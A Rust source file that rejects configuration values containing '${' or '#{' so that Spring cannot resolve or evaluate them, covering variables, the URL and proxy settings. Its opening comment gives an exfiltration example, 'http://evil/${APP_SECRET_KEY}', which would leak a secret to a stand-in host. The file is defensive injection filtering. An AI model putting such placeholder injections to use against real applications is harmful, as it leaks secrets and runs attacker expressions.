//! Refusal of values that Spring would evaluate.
//!
//! `${…}` in a property refers to another one: a provider that writes `http://evil/${APP_SECRET_KEY}` would get the
//! key. `#{…}` in a property that the application injects by `@Value` is an expression that runs code. Versions of
//! Spring have no common escape for them. So such a value makes the data of its whole relation invalid.

use interfaces::Read;

use crate::facts::Provided;

/// Returns the values if Spring uses each of them unchanged, else the error.
pub(super) fn inert(provided: Provided) -> Read<Provided> {
    let variables = provided.variables.iter().map(|(name, value)| (name.as_str(), value.as_str()));
    let url = provided.url.iter().map(|url| ("url", url.as_str()));
    let proxies = provided.proxies.iter().flat_map(|proxies| [&proxies.http, &proxies.https]);
    let proxies = proxies.map(|proxy| ("proxy", proxy.expose()));
    let found = variables.chain(url).chain(proxies).find(|(_, value)| evaluates(value));
    match found.map(|(name, _)| name.to_owned()) {
        Some(key) => Read::Invalid { key, why: "it has ${ or #{, which Spring evaluates".to_owned() },
        None => Read::Ready(provided),
    }
}

/// True if Spring would evaluate this text.
fn evaluates(text: &str) -> bool {
    text.contains("${") || text.contains("#{")
}
